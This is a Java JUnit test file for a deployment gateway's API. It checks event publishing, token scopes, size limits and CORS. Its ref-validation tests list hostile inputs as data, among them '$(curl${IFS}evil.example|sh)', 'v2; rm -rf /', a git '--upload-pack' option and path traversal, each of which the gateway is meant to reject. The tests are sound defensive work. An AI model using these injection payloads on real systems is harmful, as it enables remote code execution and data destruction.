package dev.bluegreen.gateway.deployment;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;

import dev.bluegreen.events.AwaitingPromotion;
import dev.bluegreen.events.CancelRequested;
import dev.bluegreen.events.Colour;
import dev.bluegreen.events.DeployRequested;
import dev.bluegreen.events.Envelope;
import dev.bluegreen.events.PromoteRequested;
import dev.bluegreen.events.ProvisioningFailed;
import dev.bluegreen.events.RollbackRequested;
import dev.bluegreen.events.Topics;
import dev.bluegreen.events.TrafficSwitched;
import dev.bluegreen.gateway.RunningGateway;
import dev.bluegreen.testing.EventLog;
import dev.bluegreen.testing.KafkaFixture;

class DeploymentRequestsTest {

    private static final ParameterizedTypeReference<Map<String, String>> JSON_OBJECT =
            new ParameterizedTypeReference<>() {
            };

    @TempDir
    static Path directory;

    static RunningGateway gateway;
    static EventLog events;
    static WebTestClient http;

    @BeforeAll
    static void startGateway() {
        gateway = RunningGateway.start(directory, KafkaFixture.bootstrapServers());
        events = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE);
        http = gateway.authorized();
    }

    @AfterAll
    static void stopGateway() {
        if (events != null) {
            events.close();
        }
        if (gateway != null) {
            gateway.close();
        }
    }

    @Test
    void aDeployRequestBecomesDeployRequestedOnKafka() {
        Map<String, String> answer = http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"alice\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectHeader().location("/api/events?app=shop")
                .expectBody(JSON_OBJECT).returnResult().getResponseBody();

        assertThat(answer).containsEntry("app", "shop").containsEntry("ref", "v2")
                .containsEntry("events", "/api/events?app=shop").containsKey("deploymentId");
        Envelope published = events.awaitEvent(DeployRequested.class, answer.get("deploymentId"));
        assertThat(published.dataAs(DeployRequested.class))
                .isEqualTo(new DeployRequested("shop", "v2", null, "alice", "ci"));
        assertThat(published.source()).isEqualTo("gateway");
        assertThat(published.subject()).isEqualTo("shop");
    }

    @Test
    void aDeployRequestWithoutRequesterIsRequestedByTheTokensName() {
        String deploymentId = http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"main\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");

        assertThat(events.awaitEvent(DeployRequested.class, deploymentId).dataAs(DeployRequested.class).requestedBy())
                .isEqualTo("ci");
    }

    @Test
    void aRollbackRequestBecomesRollbackRequested() {
        Map<String, String> answer = http.post().uri("/api/apps/shop/rollbacks")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"bob\",\"reason\":\"checkout is slow\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectHeader().location("/api/events?app=shop")
                .expectBody(JSON_OBJECT).returnResult().getResponseBody();

        Envelope published = events.awaitEvent(RollbackRequested.class, answer.get("deploymentId"));
        assertThat(published.dataAs(RollbackRequested.class))
                .isEqualTo(new RollbackRequested("shop", "bob", "checkout is slow", null, "ci"));
    }

    @Test
    void aRollbackRequestGetsAnIdOfItsOwnNotTheLastDeploymentsId() {
        String deploymentId = requestDeploymentOfShop();
        events.awaitEvent(DeployRequested.class, deploymentId);

        String first = http.post().uri("/api/apps/shop/rollbacks").exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
        String second = http.post().uri("/api/apps/shop/rollbacks").exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");

        assertThat(List.of(deploymentId, first, second)).doesNotHaveDuplicates();
        for (String rollback : List.of(first, second)) {
            Envelope published = events.awaitEvent(RollbackRequested.class, rollback);
            assertThat(published.topic()).isEqualTo(Topics.LIFECYCLE);
            assertThat(published.dataAs(RollbackRequested.class).revertsDeployment()).isNull();
        }
        assertThat(events.events()).filteredOn(event -> event.deploymentId().equals(deploymentId))
                .extracting(Envelope::type).containsOnly("DeployRequested");
    }

    @Test
    void aCancelPublishesCancelRequestedForThatDeploymentAndNeedsATokenScopedToTheApp() {
        String deploymentId = requestDeploymentOfShop();
        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + deploymentId).exchange()
                .expectStatus().isOk());
        String cancel = "/api/apps/shop/deployments/" + deploymentId + "/cancel";
        gateway.http().post().uri(cancel)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"reason\":\"mallory wants it gone\"}")
                .exchange()
                .expectStatus().isUnauthorized();
        gateway.http().post().uri(cancel)
                .header(HttpHeaders.AUTHORIZATION, "Bearer " + RunningGateway.WIKI_TOKEN)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"reason\":\"trudy wants it gone\"}")
                .exchange()
                .expectStatus().isForbidden()
                .expectBody().json("{\"error\":\"This token may not act on 'shop'\"}", true);

        Map<String, String> answer = http.post().uri(cancel)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"reason\":\"the acceptance tests failed\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectHeader().location("/api/events?app=shop")
                .expectBody(JSON_OBJECT).returnResult().getResponseBody();

        assertThat(answer).containsEntry("deploymentId", deploymentId).containsEntry("app", "shop")
                .containsEntry("ref", "v3");
        Envelope published = events.awaitEvent(CancelRequested.class, deploymentId);
        assertThat(published.dataAs(CancelRequested.class))
                .isEqualTo(new CancelRequested("shop", "ci", "the acceptance tests failed", "ci"));
        assertThat(published.topic()).isEqualTo(Topics.LIFECYCLE);
        assertThat(events.events()).filteredOn(event -> event.data() instanceof CancelRequested)
                .noneMatch(event -> event.data().toString().contains("wants it gone"));
    }

    @Test
    void aCancelOfAnUnknownOrEndedDeploymentIsRefusedWithAReason() {
        http.post().uri("/api/apps/shop/deployments/no-such-deployment/cancel")
                .exchange()
                .expectStatus().isNotFound()
                .expectBody().json("{\"error\":\"No deployment 'no-such-deployment' of 'shop' is known to the "
                        + "gateway\"}", true);
        String failed = UUID.randomUUID().toString();
        events.publish(Envelope.of("gateway", failed, new DeployRequested("shop", "v6", null, "alice")));
        events.publish(Envelope.of("deploy-agent", failed, new ProvisioningFailed("shop", Colour.GREEN, "v6",
                "Step install failed with exit code 1", 102L, "install", 1, "")));
        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + failed).exchange()
                .expectBody().jsonPath("$.outcome").isEqualTo("failed"));

        http.post().uri("/api/apps/shop/deployments/" + failed + "/cancel")
                .exchange()
                .expectStatus().isEqualTo(409)
                .expectBody().json("{\"error\":\"Deployment " + failed + " of 'shop' has ended already: it is "
                        + "failed\"}", true);
        assertThat(events.events()).noneMatch(event -> event.data() instanceof CancelRequested
                && event.deploymentId().equals(failed));
    }

    @Test
    void aRollbackRequestNeedsNoBody() {
        String deploymentId = http.post().uri("/api/apps/shop/rollbacks")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");

        assertThat(events.awaitEvent(RollbackRequested.class, deploymentId).dataAs(RollbackRequested.class))
                .isEqualTo(new RollbackRequested("shop", "ci", RollbackRequest.NO_REASON, null, "ci"));
    }

    @Test
    void anUnknownAppIs404AndPublishesNothing() {
        http.post().uri("/api/apps/blog/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\"}")
                .exchange()
                .expectStatus().isNotFound()
                .expectBody().json("{\"error\":\"No app named 'blog' is configured\"}", true);
        http.post().uri("/api/apps/blog/rollbacks")
                .exchange()
                .expectStatus().isNotFound()
                .expectBody().json("{\"error\":\"No app named 'blog' is configured\"}", true);

        // Whatever the gateway published would be on Kafka well before a later request's event arrives.
        String later = requestDeploymentOfShop();
        events.awaitEvent(DeployRequested.class, later);
        Awaitility.await().during(Duration.ofSeconds(1)).atMost(Duration.ofSeconds(3))
                .untilAsserted(() -> assertThat(events.events()).noneMatch(event -> event.subject().equals("blog")));
    }

    @Test
    void aRequestWithoutRefIs400WithAMessage() {
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"alice\"}")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().json("{\"error\":\"ref must name a branch, tag or commit, such as \\\"v2\\\"\"}", true);
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"  \"}")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().jsonPath("$.error").value(String.class,
                        error -> assertThat(error).contains("ref must name a branch, tag or commit"));
        http.post().uri("/api/apps/shop/deployments")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().jsonPath("$.error").value(String.class,
                        error -> assertThat(error).contains("needs a JSON body"));
    }

    @Test
    void malformedJsonIs400WithoutAStackTrace() {
        String body = http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\": \"v2\"")
                .exchange()
                .expectStatus().isBadRequest()
                .expectHeader().contentType(MediaType.APPLICATION_JSON)
                .expectBody(String.class).returnResult().getResponseBody();

        assertThat(body).startsWith("{\"error\":\"The request body is not valid JSON")
                .doesNotContain("Exception", "\tat ", "trace", "tools.jackson");
    }

    @Test
    void aRefWithSpacesIs400() {
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2; rm -rf /\"}")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().json("{\"error\":\"ref must not contain spaces or control characters\"}", true);
    }

    @Test
    void aRefThatGitWouldTakeForAnOptionIs400() {
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"--upload-pack=/tmp/evil\"}")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().json("{\"error\":\"ref must not start with '-'\"}", true);
    }

    static Stream<Arguments> refsThatBreakARule() {
        String shell = "may hold only ASCII letters, digits and . _ - / + @, so that no shell reads it as code (such "
                + "as $ ` ( ) ; | & ' \" < > ! { })";
        return Stream.of(
                Arguments.of("$(curl${IFS}evil.example|sh)", shell),
                Arguments.of("`reboot`", shell),
                Arguments.of("v2;reboot", shell),
                Arguments.of("v2|sh", shell),
                Arguments.of("v2&&reboot", shell),
                Arguments.of("v2'", shell),
                Arguments.of("v2\"", shell),
                Arguments.of("v2>/etc/passwd", shell),
                Arguments.of("caf\u00e9", shell),
                Arguments.of("v\u202e2", shell),
                Arguments.of("../../etc", "must not contain '..' (git's rule)"),
                Arguments.of("v2~1", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
                Arguments.of("v2^", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
                Arguments.of("origin:v2", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
                Arguments.of("v*", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
                Arguments.of("v2\\x", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
                Arguments.of("main@{1}", "must not contain '@{' (git's rule)"),
                Arguments.of("@", "must not be '@' alone (git's rule)"),
                Arguments.of("/etc/passwd", "must not start with '/' or contain '//' (git's rule)"),
                Arguments.of("feature//login", "must not start with '/' or contain '//' (git's rule)"),
                Arguments.of("feature/", "must not end with '/' or '.' (git's rule)"),
                Arguments.of("v2.", "must not end with '/' or '.' (git's rule)"),
                Arguments.of(".hidden", "must not have a part that starts with '.' (git's rule)"),
                Arguments.of("feature/.hidden", "must not have a part that starts with '.' (git's rule)"),
                Arguments.of("main.lock", "must not have a part that ends with '.lock' (git's rule)"),
                Arguments.of("v2\tx", "must not contain spaces or control characters"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refsThatBreakARule")
    void aRefThatGitWouldRefuseOrAShellWouldReadAsCodeIs400NamingTheRuleAndPublishesNothing(String ref,
            String rule) {
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("ref", ref, "requestedBy", "mallory-refs"))
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().jsonPath("$.error").isEqualTo("ref " + rule);

        assertNothingPublishedBy("mallory-refs");
    }

    @Test
    void branchesTagsAndCommitsThatFollowGitsRulesAreDeployed() {
        for (String ref : List.of("v1.4.0", "feature/login", "release/2026/11", "user@fix-1", "v1.0+build.5",
                "4f9c2e1d0b7a6c5e4f3a2b1c0d9e8f7a6b5c4d3e")) {
            String deploymentId = http.post().uri("/api/apps/shop/deployments")
                    .contentType(MediaType.APPLICATION_JSON)
                    .bodyValue(Map.of("ref", ref))
                    .exchange()
                    .expectStatus().isAccepted()
                    .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
            assertThat(events.awaitEvent(DeployRequested.class, deploymentId).dataAs(DeployRequested.class).ref())
                    .isEqualTo(ref);
        }
    }

    @Test
    void everyRequestRecordsTheTokensNameAsItsActorWhateverRequestedBySaysAndTheHistoryShowsBoth() {
        String deploymentId = http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"alice\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
        String rollbackId = http.post().uri("/api/apps/shop/rollbacks")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"alice\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");

        assertThat(events.awaitEvent(DeployRequested.class, deploymentId).dataAs(DeployRequested.class))
                .extracting(DeployRequested::requestedBy, DeployRequested::actor).containsExactly("alice", "ci");
        assertThat(events.awaitEvent(RollbackRequested.class, rollbackId).dataAs(RollbackRequested.class))
                .extracting(RollbackRequested::requestedBy, RollbackRequested::actor).containsExactly("alice", "ci");
        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + deploymentId).exchange()
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.requestedBy").isEqualTo("alice")
                .jsonPath("$.actor").isEqualTo("ci")
                .jsonPath("$.steps[0].summary").isEqualTo("alice via ci asked to deploy v2"));
    }

    @Test
    void aReadOnlyTokenMayNotDeployRollBackPromoteOrCancel() {
        WebTestClient reader = gateway.reader();
        reader.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"reader-only\"}")
                .exchange()
                .expectStatus().isForbidden()
                .expectBody().json("{\"error\":\"This token may only read; deploying, rolling back, promoting and "
                        + "cancelling need a token with scope deploy\"}", true);
        reader.post().uri("/api/apps/shop/rollbacks")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"reader-only\"}")
                .exchange()
                .expectStatus().isForbidden();
        reader.post().uri("/api/apps/shop/promotions")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"deploymentId\":\"d-1\",\"requestedBy\":\"reader-only\"}")
                .exchange()
                .expectStatus().isForbidden();
        reader.post().uri("/api/apps/shop/deployments/d-1/cancel")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"reader-only\"}")
                .exchange()
                .expectStatus().isForbidden();

        assertNothingPublishedBy("reader-only");
    }

    @Test
    void aRequestWithoutAValidTokenIs401AndPublishesNothing() {
        WebTestClient anonymous = gateway.http();
        anonymous.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"mallory\"}")
                .exchange()
                .expectStatus().isUnauthorized()
                .expectBody().json("{\"error\":\"This request needs a valid token: Authorization: Bearer <token>\"}",
                        true);
        anonymous.post().uri("/api/apps/shop/deployments")
                .header(HttpHeaders.AUTHORIZATION, "Bearer " + RunningGateway.SHOP_TOKEN + "x")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"mallory\"}")
                .exchange()
                .expectStatus().isUnauthorized();
        anonymous.post().uri("/api/apps/shop/rollbacks")
                .header(HttpHeaders.AUTHORIZATION, "Basic " + RunningGateway.SHOP_TOKEN)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"mallory\"}")
                .exchange()
                .expectStatus().isUnauthorized();
        anonymous.post().uri("/api/apps/shop/promotions")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"deploymentId\":\"d-1\",\"requestedBy\":\"mallory\"}")
                .exchange()
                .expectStatus().isUnauthorized();
        anonymous.post().uri("/api/apps/shop/deployments/d-1/cancel")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"requestedBy\":\"mallory\"}")
                .exchange()
                .expectStatus().isUnauthorized();

        assertNothingPublishedBy("mallory");
    }

    @Test
    void aTokenForAnotherAppIs403AndPublishesNothing() {
        gateway.http().post().uri("/api/apps/shop/deployments")
                .header(HttpHeaders.AUTHORIZATION, "Bearer " + RunningGateway.WIKI_TOKEN)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"trudy\"}")
                .exchange()
                .expectStatus().isForbidden()
                .expectBody().json("{\"error\":\"This token may not act on 'shop'\"}", true);

        assertNothingPublishedBy("trudy");
    }

    @Test
    void aPromotionOfADeploymentThatWaitsBecomesPromoteRequested() {
        String deploymentId = UUID.randomUUID().toString();
        events.publish(Envelope.of("gateway", deploymentId, new DeployRequested("shop", "v4", null, "alice")));
        events.publish(Envelope.of("traffic-router", deploymentId,
                new AwaitingPromotion("shop", Colour.BLUE, Colour.GREEN)));
        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + deploymentId).exchange()
                .expectBody().jsonPath("$.outcome").isEqualTo("awaiting-promotion"));

        http.post().uri("/api/apps/shop/promotions")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"deploymentId\":\"" + deploymentId + "\",\"requestedBy\":\"carol\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody().jsonPath("$.deploymentId").isEqualTo(deploymentId);

        assertThat(events.awaitEvent(PromoteRequested.class, deploymentId).dataAs(PromoteRequested.class))
                .isEqualTo(new PromoteRequested("shop", "carol", "ci"));
    }

    @Test
    void aPromotionOfAnUnknownOrFinishedDeploymentIsRefusedWithAReason() {
        http.post().uri("/api/apps/shop/promotions")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"deploymentId\":\"no-such-deployment\"}")
                .exchange()
                .expectStatus().isNotFound()
                .expectBody().json("{\"error\":\"No deployment 'no-such-deployment' of 'shop' is known to the "
                        + "gateway\"}", true);

        String deploymentId = UUID.randomUUID().toString();
        events.publish(Envelope.of("gateway", deploymentId, new DeployRequested("shop", "v5", null, "alice")));
        events.publish(Envelope.of("traffic-router", deploymentId,
                new TrafficSwitched("shop", Colour.BLUE, Colour.GREEN, List.of(102L), 800)));
        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + deploymentId).exchange()
                .expectBody().jsonPath("$.outcome").isEqualTo("succeeded"));

        http.post().uri("/api/apps/shop/promotions")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue("{\"deploymentId\":\"" + deploymentId + "\"}")
                .exchange()
                .expectStatus().isEqualTo(409)
                .expectBody().json("{\"error\":\"Deployment " + deploymentId
                        + " does not wait for promotion: it is succeeded\"}", true);
    }

    @Test
    void aBodyOverTheSizeLimitIs413() {
        String huge = "{\"ref\":\"v2\",\"requestedBy\":\"" + "a".repeat(1_100_000) + "\"}";
        http.post().uri("/api/apps/shop/deployments")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(huge)
                .exchange()
                .expectStatus().isEqualTo(413)
                .expectBody().json("{\"error\":\"The request body is larger than the gateway accepts (1048576 "
                        + "bytes)\"}", true);
    }

    @Test
    void aBodySentWithoutLengthIsHeldToTheSameLimit() {
        byte[] chunk = "a".repeat(64 * 1024).getBytes(java.nio.charset.StandardCharsets.UTF_8);
        reactor.core.publisher.Flux<org.springframework.core.io.buffer.DataBuffer> body = reactor.core.publisher.Flux
                .concat(reactor.core.publisher.Flux.just("{\"ref\":\"v2\",\"requestedBy\":\""
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8)),
                        reactor.core.publisher.Flux.range(0, 20).map(i -> chunk))
                .map(org.springframework.core.io.buffer.DefaultDataBufferFactory.sharedInstance::wrap);
        for (String uri : List.of("/api/apps/shop/deployments", "/api/webhooks/github/shop")) {
            http.post().uri(uri)
                    .contentType(MediaType.APPLICATION_JSON)
                    .header("X-GitHub-Event", "push")
                    .body(org.springframework.web.reactive.function.BodyInserters.fromDataBuffers(body))
                    .exchange()
                    .expectStatus().isEqualTo(413)
                    .expectBody().jsonPath("$.error").isEqualTo(
                            "The request body is larger than the gateway accepts (1048576 bytes)");
        }
    }

    @Test
    void browsersOnOtherOriginsAreNotAllowedInBecauseNoCorsHeaderIsSent() {
        http.options().uri("/api/apps/shop/deployments")
                .header(HttpHeaders.ORIGIN, "https://evil.example")
                .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "POST")
                .header(HttpHeaders.ACCESS_CONTROL_REQUEST_HEADERS, "authorization")
                .exchange()
                .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN)
                .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_METHODS);
        http.get().uri("/api/apps/shop/status")
                .header(HttpHeaders.ORIGIN, "https://evil.example")
                .exchange()
                .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN);
    }

    private static void assertNothingPublishedBy(String requester) {
        // Whatever the gateway published would be on Kafka well before a later request's event arrives.
        events.awaitEvent(DeployRequested.class, requestDeploymentOfShop());
        assertThat(events.events()).noneMatch(event -> event.data().toString().contains(requester));
    }

    private static String requestDeploymentOfShop() {
        return http.post().uri("/api/apps/shop/deployments")
                .header(HttpHeaders.CONTENT_TYPE, MediaType.APPLICATION_JSON_VALUE)
                .bodyValue("{\"ref\":\"v3\"}")
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
    }
}
